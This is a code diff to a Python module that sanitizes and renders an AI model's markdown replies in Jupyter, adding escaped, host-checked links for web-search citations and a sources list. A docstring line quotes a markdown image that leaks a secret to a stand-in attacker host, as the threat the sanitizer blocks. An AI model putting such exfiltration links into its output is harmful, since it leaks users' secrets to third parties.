@@ -13,6 +13,10 @@ exfiltration images (``![x](https://attacker/p.png?q=<secret>)``). Hence two lay
 Emphasis follows the CJK-friendly rule (``这是**重要的。**后文`` is bold, §9.4). Math is left as
 escaped TeX with its delimiters inside ``.ernie-math`` elements; JupyterLab's MathJax (run with
 its SafeHandler) typesets it, other front ends show the source.
+
+Web sources (``--search``): ERNIE's citation markers ``^[1]^`` / ``^[1][3]^`` in text become superscript
+links to the answer's sources, and :func:`sources_html` lists them under it. Titles and URLs are data:
+escaped text, and links only to absolute http(s) URLs with a host.
 """
 
 from __future__ import annotations
@@ -22,10 +26,12 @@ import html
 import json
 import re
 from typing import Any
+from urllib.parse import urlsplit
 
 import nh3
 from markdown_it import MarkdownIt
 from markdown_it.common.utils import escapeHtml
+from markdown_it.rules_core import StateCore
 from markdown_it.token import Token
 from mdit_py_cjk_friendly import cjk_friendly
 
@@ -37,10 +43,13 @@ __all__ = [
     "bundle",
     "extract_code",
     "extract_code_blocks",
+    "is_web_url",
     "render_code",
     "render_html",
     "render_markdown",
     "sanitize",
+    "sources_html",
+    "sources_plain",
     "to_plain",
 ]
 
@@ -51,7 +60,7 @@ FORMATS = ("markdown", "text", "code", "json", "html", "math")
 # Sanitizer policy
 
 _TAGS = {
-    "a", "abbr", "b", "blockquote", "br", "caption", "code", "dd", "del", "details", "div", "dl",
+    "a", "abbr", "b", "bdi", "blockquote", "br", "caption", "code", "dd", "del", "details", "div", "dl",
     "dt", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "ins", "kbd", "li", "mark", "ol",
     "p", "pre", "q", "s", "samp", "small", "span", "strong", "sub", "summary", "sup", "table",
     "tbody", "td", "tfoot", "th", "thead", "tr", "u", "ul", "var",
@@ -65,6 +74,7 @@ _ATTRIBUTES = {
     "a": {"href", "title", "class"},
     "abbr": {"title"},
     "ol": {"start"},
+    "li": {"value"},
     "th": {"align", "colspan", "rowspan"},
     "td": {"align", "colspan", "rowspan"},
     "code": {"class"},
@@ -82,7 +92,15 @@ _CLASS_RULES = {
     "span": re.compile(r"ernie-[a-z0-9-]{1,40}|[a-z]{1,3}[0-9]?"),
 }
 _NUMERIC = re.compile(r"[0-9]{1,6}")
-_SAFE_HREF = re.compile(r"(?:https?://[^\s/\\?#@]+(?:[/?#]|$)|mailto:\S|#)", re.IGNORECASE)
+# absolute http(s) with a host: "http:hit" or "http:/logout" would resolve against the Jupyter page's own origin,
+# and one click would reach the server's endpoints
+_WEB_URL = r"https?://[^\s/\\?#@]+(?:[/?#]|$)"
+_SAFE_HREF = re.compile(rf"(?:{_WEB_URL}|mailto:\S|#)", re.IGNORECASE)
+
+
+def is_web_url(url: str) -> bool:
+    """Whether a link may point at `url`: an absolute http(s) URL with a host (a source's URL must be one)."""
+    return re.match(_WEB_URL, url.strip(), re.IGNORECASE) is not None
 
 
 def _filter_attribute(tag: str, attr: str, value: str) -> str | None:
@@ -92,11 +110,9 @@ def _filter_attribute(tag: str, attr: str, value: str) -> str | None:
         return " ".join(kept) or None
     if attr == "align":
         return value.lower() if value.lower() in ("left", "center", "right") else None
-    if attr in ("start", "colspan", "rowspan"):
+    if attr in ("start", "value", "colspan", "rowspan"):
         return value if _NUMERIC.fullmatch(value) else None
     if attr == "href":
-        # absolute http(s) with a host: "http:hit" or "http:/logout" would resolve against the Jupyter page's own
-        # origin, and one click would reach the server's endpoints
         return value if _SAFE_HREF.match(value.strip()) else None
     return value
 
@@ -159,6 +175,50 @@ def _render_cell_open(self: Any, tokens: list[Token], idx: int, options: Any, en
     return f"<{token.tag}{attr}>"
 
 
+_CITATION = re.compile(r"\^((?:\[[0-9]{1,3}\]){1,9})\^")
+
+
+def _citations(state: StateCore) -> None:
+    """ERNIE's citation markers in text become `ernie_cite` tokens. Only text tokens outside links: code, math
+    and link targets are other tokens, so a marker there stays as written (the widget does the same)."""
+    for block in state.tokens:
+        if block.type != "inline" or not block.children or "^[" not in block.content:
+            continue
+        children: list[Token] = []
+        in_link = 0
+        for token in block.children:
+            in_link += {"link_open": 1, "link_close": -1}.get(token.type, 0)
+            if token.type != "text" or in_link or not _CITATION.search(token.content):
+                children.append(token)
+                continue
+            pos = 0
+            for m in _CITATION.finditer(token.content):
+                if m.start() > pos:
+                    children.append(Token("text", "", 0, content=token.content[pos:m.start()]))
+                refs = [int(n) for n in re.findall(r"[0-9]+", m.group(1))]
+                children.append(Token("ernie_cite", "", 0, content=m.group(0), meta={"refs": refs}))
+                pos = m.end()
+            if pos < len(token.content):
+                children.append(Token("text", "", 0, content=token.content[pos:]))
+        block.children = children
+
+
+def _render_cite(self: Any, tokens: list[Token], idx: int, options: Any, env: Any) -> str:
+    """`[n]` links to source n in a superscript; a marker with no source to link stays plain text."""
+    token = tokens[idx]
+    sources = (env.get("ernie_sources") or {}) if isinstance(env, dict) else {}
+    parts, linked = [], False
+    for n in token.meta["refs"]:
+        source = sources.get(n)
+        if source is not None and is_web_url(source["url"]):
+            title = escapeHtml(source["title"] or source["url"])
+            parts.append(f'<a href="{escapeHtml(source["url"])}" class="ernie-cite" title="{title}">[{n}]</a>')
+            linked = True
+        else:
+            parts.append(f"[{n}]")
+    return f"<sup>{''.join(parts)}</sup>" if linked else escapeHtml(token.content)
+
+
 @functools.cache
 def _markdown() -> MarkdownIt:
     md = MarkdownIt("js-default").use(cjk_friendly)
@@ -167,6 +227,8 @@ def _markdown() -> MarkdownIt:
     # a link target there. Off: such lines simply stay text.
     md.disable("reference")
     md.use(math_plugin)
+    md.core.ruler.push("ernie_citations", _citations)
+    md.add_render_rule("ernie_cite", _render_cite)
     md.add_render_rule("image", _render_image)
     md.add_render_rule("fence", _render_fence)
     md.add_render_rule("th_open", _render_cell_open)
@@ -174,13 +236,50 @@ def _markdown() -> MarkdownIt:
     return md
 
 
-def render_markdown(text: str, *, highlight: bool = True) -> str:
+def render_markdown(text: str, *, highlight: bool = True, sources: list[dict[str, Any]] | None = None) -> str:
     """Render model markdown to sanitized HTML (no wrapper element).
 
     ``highlight=False`` skips pygments for fenced code (cheaper while a reply is still streaming).
+    ``sources`` (`protocol.web_sources`) turns the citation markers that name one into links to it.
     """
-    rendered = _markdown().render(limit_nesting(text or ""), {"ernie_highlight": highlight})
+    env = {"ernie_highlight": highlight, "ernie_sources": {s["index"]: s for s in sources or ()}}
+    rendered = _markdown().render(limit_nesting(text or ""), env)
     return sanitize(rendered)
+
+
+def _host(url: str) -> str:
+    try:
+        return urlsplit(url.strip()).hostname or ""
+    except ValueError:  # "http://[oops" and the like
+        return ""
+
+
+def sources_html(sources: list[dict[str, Any]] | None) -> str:
+    """The numbered list of an answer's web sources (title, host), sanitized; "" without sources.
+
+    Titles and URLs come from the web: escaped text in `<bdi>` (a bidi control in a title cannot reorder the
+    host after it), and a link only to an absolute http(s) URL with a host. Nothing of a source is loaded.
+    """
+    items = []
+    for s in sources or ():
+        url, n = s["url"], int(s["index"])
+        host = _host(url) if is_web_url(url) else ""
+        label = f"<bdi>{escapeHtml(s['title'] or host or url)}</bdi>"
+        if host:
+            label = (f'<a href="{escapeHtml(url)}" class="ernie-source">{label}</a> '
+                     f'<span class="ernie-source-host"><bdi>{escapeHtml(host)}</bdi></span>')
+        items.append(f'<li value="{n}">{label}</li>')
+    if not items:
+        return ""
+    return sanitize('<div class="ernie-sources"><div class="ernie-sources-title">来源 / Sources</div>'
+                    f'<ol>{"".join(items)}</ol></div>')
+
+
+def sources_plain(sources: list[dict[str, Any]] | None) -> str:
+    """The sources as text, for front ends without HTML: ``[n] title — url`` per line; "" without sources."""
+    lines = [f"[{s['index']}] {s['title'] or s['url']}" + (f" — {s['url']}" if s["title"] and s["url"] else "")
+             for s in sources or ()]
+    return "来源 / Sources:\n" + "\n".join(lines) if lines else ""
 
 
 #: container markers (bullets, ordered-list numbers, ">") one line may open; the rest are escaped as text
@@ -357,11 +456,13 @@ def _json_reply(text: str) -> tuple[str, str | None]:
     return text, None
 
 
-def bundle(text: str, fmt: str, *, trust_html: bool = False, streaming: bool = False) -> dict[str, str]:
+def bundle(text: str, fmt: str, *, trust_html: bool = False, streaming: bool = False,
+           sources: list[dict[str, Any]] | None = None) -> dict[str, str]:
     """A MIME bundle ``{"text/html", "text/plain"[, "text/latex"]}`` for one magic output.
 
     ``fmt`` is one of :data:`FORMATS` (or ``md``). ``streaming=True`` marks a partial reply: no
     syntax highlighting (it is re-rendered on every update) and an ``ernie-streaming`` class.
+    ``sources`` (web search) are listed under a markdown or text answer, and its citation markers link to them.
     """
     fmt = "markdown" if fmt == "md" else fmt
     text = text or ""
@@ -369,9 +470,9 @@ def bundle(text: str, fmt: str, *, trust_html: bool = False, streaming: bool = F
     plain = to_plain(text)
     data: dict[str, str] = {}
     if fmt == "markdown":
-        inner = render_markdown(text, highlight=highlight)
+        inner = render_markdown(text, highlight=highlight, sources=sources) + sources_html(sources)
     elif fmt == "text":
-        inner = f'<pre class="ernie-text">{html.escape(text, quote=False)}</pre>'
+        inner = f'<pre class="ernie-text">{html.escape(text, quote=False)}</pre>' + sources_html(sources)
     elif fmt == "code":
         blocks = extract_code_blocks(text)
         plain = extract_code(text)
@@ -393,5 +494,5 @@ def bundle(text: str, fmt: str, *, trust_html: bool = False, streaming: bool = F
     classes = f"ernie-output ernie-{fmt}" + (" ernie-streaming" if streaming else "")
     style = f"<style>{HIGHLIGHT_CSS}</style>" if 'class="ernie-code highlight"' in inner else ""
     data["text/html"] = f'<div class="{classes}">{style}{inner}</div>'
-    data["text/plain"] = plain
+    data["text/plain"] = plain + (f"\n\n{sources_plain(sources)}" if sources and fmt in ("markdown", "text") else "")
     return data
